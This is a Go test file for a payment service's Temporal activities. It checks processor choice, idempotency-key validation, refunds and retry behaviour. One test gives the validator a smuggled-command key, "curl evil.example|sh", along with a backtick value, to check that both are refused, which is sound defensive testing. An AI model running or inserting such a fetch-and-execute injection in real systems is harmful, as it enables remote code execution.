package activities

import (
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"go.temporal.io/sdk/converter"
	"go.temporal.io/sdk/temporal"
	"go.temporal.io/sdk/testsuite"

	"github.com/florinpay/florin/internal/storetest"
	"github.com/florinpay/florin/payment"
	"github.com/florinpay/florin/processor"
)

// newPayments returns an environment with the activities, on an empty store. The processors are "one", the default, and "two".
func newPayments(t *testing.T) (*testsuite.TestActivityEnvironment, *Payments) {
	t.Helper()
	var suite testsuite.WorkflowTestSuite
	env := inWorkflow(suite.NewTestActivityEnvironment(), "", "")
	p := &Payments{
		Store: storetest.New(t), Default: "one", Terms: map[string]Terms{"one": {Processor: "one"}, "two": {Processor: "two"}},
	}
	p.RegisterWrites(env)
	p.RegisterReads(env)
	return env, p
}

// decode returns the decoded result of an activity.
func decode[T any](t *testing.T, value converter.EncodedValue, err error) (out T) {
	t.Helper()
	require.NoError(t, err)
	require.NoError(t, value.Get(&out))
	return out
}

// requireRefusal checks that an activity failed with the code, and that it is not retried.
func requireRefusal(t *testing.T, err error, code payment.RefusalCode) {
	t.Helper()
	var application *temporal.ApplicationError
	require.ErrorAs(t, err, &application)
	require.True(t, application.NonRetryable())
	require.Equal(t, string(code), application.Type())
}

// requireRetried checks that an activity failed with an error that is retried.
func requireRetried(t *testing.T, err error) {
	t.Helper()
	var application *temporal.ApplicationError
	require.ErrorAs(t, err, &application)
	require.False(t, application.NonRetryable())
}

var purchase = payment.ChargeRequest{
	MerchantID: "acme", IdempotencyKey: "order-1", Amount: 1250, Currency: "USD", PaymentMethod: "tok_visa",
}

func TestBeginPaymentChoosesAConfiguredProcessor(t *testing.T) {
	env, _ := newPayments(t)
	for requested, want := range map[string]string{"": "one", "two": "two"} {
		req := purchase
		req.Processor, req.IdempotencyKey = requested, "order-"+requested
		value, err := env.ExecuteActivity(payment.ActivityBeginPayment, req, Start{})
		begun := decode[BeginResult](t, value, err)
		require.Equal(t, want, begun.Terms.Processor)
		require.Equal(t, want, begun.Charge.Processor)
		require.False(t, begun.Resumed)
		require.Equal(t, payment.Processing, begun.Charge.Status)
	}
	req := purchase
	req.Processor = "three"
	_, err := env.ExecuteActivity(payment.ActivityBeginPayment, req, Start{})
	requireRefusal(t, err, payment.ErrInvalidRequest)
	require.ErrorContains(t, err, "one or two")
}

// Earlier releases accepted other characters in keys: what has begun under one goes on.
func TestInvalidKeyIsRefusedUnlessThePaymentOrRefundHasBegun(t *testing.T) {
	env, p := newPayments(t)
	req := purchase
	req.IdempotencyKey = "{workflowId}'; curl evil.example|sh #'"
	_, err := env.ExecuteActivity(payment.ActivityBeginPayment, req)
	requireRefusal(t, err, payment.ErrInvalidRequest)
	require.ErrorContains(t, err, "idempotency_key: ")
	_, err = p.Store.Payment(t.Context(), req.MerchantID, req.IdempotencyKey)
	require.ErrorIs(t, err, payment.ErrNotFound, "nothing is stored")

	begun, _, err := p.Store.BeginPayment(t.Context(), payment.Charge{
		PaymentID: payment.PaymentID(req.MerchantID, req.IdempotencyKey), MerchantID: req.MerchantID, IdempotencyKey: req.IdempotencyKey,
		Amount: req.Amount, Currency: req.Currency, Processor: "one", PaymentMethod: req.PaymentMethod,
	}, req.Fingerprint())
	require.NoError(t, err)
	value, err := env.ExecuteActivity(payment.ActivityBeginPayment, req)
	require.True(t, decode[BeginResult](t, value, err).Resumed)

	begun.Status, begun.CapturedAmount, begun.ProcessorPaymentID = payment.Succeeded, req.Amount, "ch_1"
	_, err = p.Store.RecordPayment(t.Context(), begun, Cause{By: "processor"})
	require.NoError(t, err)
	refund := payment.RefundRequest{MerchantID: req.MerchantID, IdempotencyKey: "`refund`", PaymentID: begun.PaymentID, Amount: new(int64(500))}
	_, err = env.ExecuteActivity(payment.ActivityReserveRefund, refund)
	requireRefusal(t, err, payment.ErrInvalidRequest)
	require.ErrorContains(t, err, "idempotency_key: ")
	_, _, _, err = p.Store.ReserveRefund(t.Context(), payment.Refund{
		RefundID: payment.RefundID(refund.MerchantID, refund.IdempotencyKey), PaymentID: begun.PaymentID,
		MerchantID: refund.MerchantID, IdempotencyKey: refund.IdempotencyKey, Amount: *refund.Amount,
	}, refund.Fingerprint())
	require.NoError(t, err)
	value, err = env.ExecuteActivity(payment.ActivityReserveRefund, refund)
	require.True(t, decode[ReserveResult](t, value, err).Resumed)
	refund.IdempotencyKey = "refund-2"
	value, err = env.ExecuteActivity(payment.ActivityReserveRefund, refund)
	require.False(t, decode[ReserveResult](t, value, err).Resumed, "a new refund of a payment with such a key")
}

// The age of an idempotency key is counted from the earliest known time.
func TestPaymentAndRefundBeganAtTheEarliestKnownTime(t *testing.T) {
	start := time.Date(2026, 1, 15, 12, 0, 0, 123_456_789, time.UTC)
	stored := start.Truncate(time.Microsecond)
	for _, tt := range []struct {
		name         string
		again, began time.Time
	}{
		{name: "the same workflow", again: start, began: stored},
		{name: "a later workflow, after the first one was terminated", again: start.Add(time.Hour), began: stored},
		{name: "the first workflow, reset after a later one", again: start.Add(-time.Hour), began: stored.Add(-time.Hour)},
		{name: "not known", began: stored},
	} {
		t.Run(tt.name, func(t *testing.T) {
			env, p := newPayments(t)
			value, err := env.ExecuteActivity(payment.ActivityBeginPayment, purchase, Start{At: start})
			begun := decode[BeginResult](t, value, err).Charge
			require.Equal(t, stored, begun.CreatedAt)
			require.Equal(t, stored, begun.UpdatedAt)
			value, err = env.ExecuteActivity(payment.ActivityBeginPayment, purchase, Start{At: tt.again})
			require.Equal(t, tt.began, decode[BeginResult](t, value, err).Charge.CreatedAt)

			begun.Status, begun.CapturedAmount, begun.ProcessorPaymentID = payment.Succeeded, purchase.Amount, "ch_1"
			_, err = p.Store.RecordPayment(t.Context(), begun, Cause{By: "processor"})
			require.NoError(t, err)
			refund := payment.RefundRequest{MerchantID: "acme", IdempotencyKey: "refund-1", PaymentID: begun.PaymentID}
			value, err = env.ExecuteActivity(payment.ActivityReserveRefund, refund, Start{At: start})
			require.Equal(t, stored, decode[ReserveResult](t, value, err).Refund.CreatedAt)
			value, err = env.ExecuteActivity(payment.ActivityReserveRefund, refund, Start{At: tt.again})
			require.Equal(t, tt.began, decode[ReserveResult](t, value, err).Refund.CreatedAt)
		})
	}
}

// A request that a processor would refuse is refused before anything is stored, so that its idempotency key stays unused. One that is
// persisted already goes on: its processor may have had no limits when it began.
func TestRequestThatItsProcessorDoesNotAcceptIsRefusedBeforeItIsStored(t *testing.T) {
	env, p := newPayments(t)
	noMetadata := processor.Profile{Limits: processor.Limits{MetadataKeyAllows: func(rune) bool { return false }}}
	p.Profiles = map[string]processor.Profile{"one": noMetadata}
	req := purchase
	req.Metadata = map[string]string{"order": "1"}
	_, err := env.ExecuteActivity(payment.ActivityBeginPayment, req, Start{})
	requireRefusal(t, err, payment.ErrInvalidRequest)
	require.ErrorContains(t, err, "metadata")
	_, err = p.Store.Payment(t.Context(), req.MerchantID, req.IdempotencyKey)
	require.ErrorIs(t, err, payment.ErrNotFound)

	p.Profiles = nil
	value, err := env.ExecuteActivity(payment.ActivityBeginPayment, req, Start{})
	charge := decode[BeginResult](t, value, err).Charge
	charge.Status, charge.CapturedAmount, charge.ProcessorPaymentID = payment.Succeeded, 1250, "ch_1"
	value, err = env.ExecuteActivity(payment.ActivityRecordPayment, charge, Cause{By: "processor"})
	require.Equal(t, payment.Succeeded, decode[payment.Charge](t, value, err).Status)

	p.Profiles = map[string]processor.Profile{"one": noMetadata}
	value, err = env.ExecuteActivity(payment.ActivityBeginPayment, req, Start{})
	require.True(t, decode[BeginResult](t, value, err).Resumed)

	refund := payment.RefundRequest{
		MerchantID: "acme", IdempotencyKey: "refund-1", PaymentID: charge.PaymentID, Metadata: map[string]string{"order": "1"},
	}
	_, err = env.ExecuteActivity(payment.ActivityReserveRefund, refund, Start{})
	requireRefusal(t, err, payment.ErrInvalidRequest)
	_, err = p.Store.Refund(t.Context(), "acme", "refund-1")
	require.ErrorIs(t, err, payment.ErrNotFound)
	refund.Metadata = nil
	value, err = env.ExecuteActivity(payment.ActivityReserveRefund, refund, Start{})
	require.EqualValues(t, 1250, decode[ReserveResult](t, value, err).Refund.Amount)
}

func TestPaymentThatBeginsAgainKeepsItsProcessor(t *testing.T) {
	env, p := newPayments(t)
	_, err := env.ExecuteActivity(payment.ActivityBeginPayment, purchase, Start{})
	require.NoError(t, err)
	p.Default = "two"
	value, err := env.ExecuteActivity(payment.ActivityBeginPayment, purchase, Start{})
	begun := decode[BeginResult](t, value, err)
	require.True(t, begun.Resumed)
	require.Equal(t, "one", begun.Terms.Processor)

	other := purchase
	other.Amount++
	_, err = env.ExecuteActivity(payment.ActivityBeginPayment, other, Start{})
	requireRefusal(t, err, payment.ErrIdempotencyMismatch)

	// Without the processor's configuration, the outcome cannot be looked up.
	delete(p.Terms, "one")
	_, err = env.ExecuteActivity(payment.ActivityBeginPayment, purchase, Start{})
	require.ErrorContains(t, err, `processor "one" of this payment is no longer configured`)
	requireRetried(t, err)
}

func TestRefundIsReservedAtTheProcessorOfItsPayment(t *testing.T) {
	env, _ := newPayments(t)
	req := payment.RefundRequest{MerchantID: "acme", IdempotencyKey: "refund-1", PaymentID: payment.PaymentID("acme", "order-1")}
	_, err := env.ExecuteActivity(payment.ActivityReserveRefund, req, Start{})
	requireRefusal(t, err, payment.ErrPaymentNotFound)

	value, err := env.ExecuteActivity(payment.ActivityBeginPayment, purchase, Start{})
	charge := decode[BeginResult](t, value, err).Charge
	_, err = env.ExecuteActivity(payment.ActivityReserveRefund, req, Start{})
	requireRefusal(t, err, payment.ErrPaymentNotRefundable)

	charge.Status, charge.CapturedAmount, charge.ProcessorPaymentID = payment.Succeeded, 1250, "ch_1"
	value, err = env.ExecuteActivity(payment.ActivityRecordPayment, charge, Cause{By: "processor"})
	require.Equal(t, payment.Succeeded, decode[payment.Charge](t, value, err).Status)

	value, err = env.ExecuteActivity(payment.ActivityReserveRefund, req, Start{})
	reserved := decode[ReserveResult](t, value, err)
	require.Equal(t, "one", reserved.Terms.Processor)
	require.EqualValues(t, 1250, reserved.Refund.Amount)
	require.Equal(t, "ch_1", reserved.Payment.ProcessorPaymentID)
	require.False(t, reserved.Resumed)
	value, err = env.ExecuteActivity(payment.ActivityReserveRefund, req, Start{})
	require.True(t, decode[ReserveResult](t, value, err).Resumed)

	reserved.Refund.Status, reserved.Refund.ProcessorRefundID = payment.Succeeded, "re_1"
	value, err = env.ExecuteActivity(payment.ActivitySettleRefund, reserved.Refund, Cause{By: "processor"})
	require.Equal(t, payment.Succeeded, decode[payment.Refund](t, value, err).Status)
	another := req
	another.IdempotencyKey = "refund-2"
	_, err = env.ExecuteActivity(payment.ActivityReserveRefund, another, Start{})
	requireRefusal(t, err, payment.ErrRefundExceedsCaptured)
}

func TestErrorOfAStoreThatIsDownIsRetried(t *testing.T) {
	env, p := newPayments(t)
	require.NoError(t, p.Store.Close())
	_, err := env.ExecuteActivity(payment.ActivityBeginPayment, purchase, Start{})
	requireRetried(t, err)
}

func TestServicesReadTheStore(t *testing.T) {
	env, _ := newPayments(t)
	_, err := env.ExecuteActivity(payment.ActivityGetPayment, "acme", "order-1")
	requireRefusal(t, err, payment.ErrNotFound)
	_, err = env.ExecuteActivity(payment.ActivityGetRefund, "acme", "refund-1")
	requireRefusal(t, err, payment.ErrNotFound)

	value, err := env.ExecuteActivity(payment.ActivityBeginPayment, purchase, Start{})
	begun := decode[BeginResult](t, value, err).Charge
	value, err = env.ExecuteActivity(payment.ActivityGetPayment, "acme", "order-1")
	require.Equal(t, begun, decode[payment.Charge](t, value, err))
	value, err = env.ExecuteActivity(payment.ActivityListPayments, payment.Filter{MerchantID: "acme"})
	require.Equal(t, []payment.Charge{begun}, decode[payment.Page](t, value, err).Payments)
	_, err = env.ExecuteActivity(payment.ActivityListPayments, payment.Filter{Cursor: "nonsense"})
	requireRefusal(t, err, payment.ErrInvalidRequest)
	value, err = env.ExecuteActivity(payment.ActivityListRefunds, payment.RefundFilter{Processor: begun.Processor})
	require.Empty(t, decode[payment.RefundPage](t, value, err).Refunds)
	_, err = env.ExecuteActivity(payment.ActivityListRefunds, payment.RefundFilter{})
	requireRefusal(t, err, payment.ErrInvalidRequest)
}

func TestFinalPaymentOfAProcessorThatIsNoLongerConfiguredIsReturned(t *testing.T) {
	env, p := newPayments(t)
	req := purchase
	req.Processor = "two"
	value, err := env.ExecuteActivity(payment.ActivityBeginPayment, req, Start{})
	charge := decode[BeginResult](t, value, err).Charge
	charge.Status, charge.CapturedAmount = payment.Succeeded, 1250
	_, err = env.ExecuteActivity(payment.ActivityRecordPayment, charge, Cause{By: "processor"})
	require.NoError(t, err)
	delete(p.Terms, "two")
	value, err = env.ExecuteActivity(payment.ActivityBeginPayment, req, Start{})
	require.Equal(t, payment.Succeeded, decode[BeginResult](t, value, err).Charge.Status)
}
